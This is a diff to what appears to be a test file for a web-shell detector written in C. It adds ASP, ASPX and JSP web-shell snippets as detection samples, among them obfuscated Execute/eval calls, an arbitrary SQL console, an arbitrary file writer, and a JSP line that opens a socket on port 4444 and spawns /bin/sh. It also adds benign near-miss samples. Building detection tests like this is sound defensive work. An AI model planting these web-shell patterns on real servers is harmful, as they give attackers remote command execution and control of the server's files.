@@ -112,6 +112,15 @@ static const struct {
 	{"aspx_file_manager",
 	 "<%@ Page Language=\"C#\" %><% var d = Request.QueryString[\"d\"]; foreach (var x in Directory.GetDirectories(d)) {}"
 	 " foreach (var f in Directory.GetFiles(d)) {} File.Delete(Request[\"del\"]); up.PostedFile.SaveAs(d + \"/x\"); %>"},
+	{"asp_execute_obfuscated", "<%@ Language=VBScript %><% Execute(Unscramble(\"%119%136%115\")) %>"},
+	{"asp_execute_obfuscated", "<% If Request(\"k\") <> \"\" Then Session(\"k\") = Request(\"k\")\nExecute Session(\"k\") %>"},
+	{"asp_execute_obfuscated",
+	 "<script runat=\"server\" language=\"JScript\">function r(s) { var a = \"un\" + \"safe\"; eval(s, a); }</script>"},
+	{"asp_execute_obfuscated", "<% Response.Write(\"\") : ExecuteGlobal(\"Ev\"&chr(97)&\"l request(1)\") %>"},
+	{"asp_execute_obfuscated", "<%@ Page Language=\"Jscript\"%><% var k = Request.Item[\"\\x6b\\x65\\x79\"]; %>"},
+	{"aspx_sql_console",
+	 "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go(){ var c = new SqlConnection(connBox.Text);"
+	 " var q = new SqlCommand(sqlBox.Text, c); q.ExecuteReader(); }</script>"},
 	/* JSP */
 	{"jsp_runtime_exec_input",
 	 "<% String c = request.getParameter(\"c\"); Process p = Runtime.getRuntime().exec(c); %>"},
@@ -130,6 +139,14 @@ static const struct {
 	{"jsp_script_engine_input",
 	 "<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName(\"js\");"
 	 " e.eval(request.getParameter(\"s\")); %>"},
+	{"jsp_tool_page",
+	 "<% String p = request.getParameter(\"path\"); String t = request.getParameter(\"t\");"
+	 " new java.io.File(p).getParentFile().mkdirs(); java.io.PrintWriter w = new java.io.PrintWriter(p);"
+	 " w.println(t); w.close(); %>"},
+	{"jsp_tool_page",
+	 "<% String h = request.getParameter(\"h\"); java.net.Socket s = new java.net.Socket(h, 4444);"
+	 " Process p = Runtime.getRuntime().exec(\"/bin/sh\"); %>"},
+	{"jsp_tool_page", "<% Class c = Class.forName(new String(new byte[] {106, 97, 118, 97})); %>"},
 	/* ColdFusion */
 	{"cfm_execute_or_upload", "<cfexecute name=\"#form.cmd#\" arguments=\"#form.args#\" timeout=\"5\"></cfexecute>"},
 	{"cfm_execute_or_upload", "<cfset r = createObject(\"java\", \"java.lang.Runtime\").getRuntime()>"},
@@ -174,6 +191,16 @@ static const char *const near_misses[] = {
 	" for (File f : fs) out.println(f.getName()); %>\n",
 	/* JSP: runs a fixed command, no request input */
 	"<% Process p = Runtime.getRuntime().exec(new String[] {\"/usr/bin/uptime\"}); %>\n",
+	/* JSP: writes its own log file, takes a parameter for display only */
+	"<% String n = request.getParameter(\"n\"); java.io.FileWriter w = new java.io.FileWriter(\"/var/log/app/hits.log\", true);"
+	" w.close(); %><p><%= n %></p>\n",
+	/* ASP.NET: a report page with a fixed connection string and a fixed query */
+	"<%@ Page Language=\"C#\" %><% var c = new SqlConnection(ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString);"
+	" var q = new SqlCommand(\"SELECT name FROM t WHERE id=@id\", c); q.Parameters.AddWithValue(\"@id\", Request.QueryString[\"id\"]); %>\n",
+	/* classic ASP that executes nothing */
+	"<%@ Language=VBScript %><% Dim s : s = Server.HTMLEncode(Request.QueryString(\"s\")) : Response.Write(Trim(s)) %>\n",
+	/* JavaScript that calls an execute() method */
+	"db.transaction(function (tx) { tx.execute(buildQuery(table), [id]); }); var r = eval(json, 0);\n",
 	/* ColdFusion: a query and an output of form fields, encoded */
 	"<cfquery name=\"q\" datasource=\"portal\">SELECT * FROM t WHERE id = <cfqueryparam value=\"#form.id#\"></cfquery>"
 	"<cfoutput>#encodeForHTML(form.name)#</cfoutput>\n",
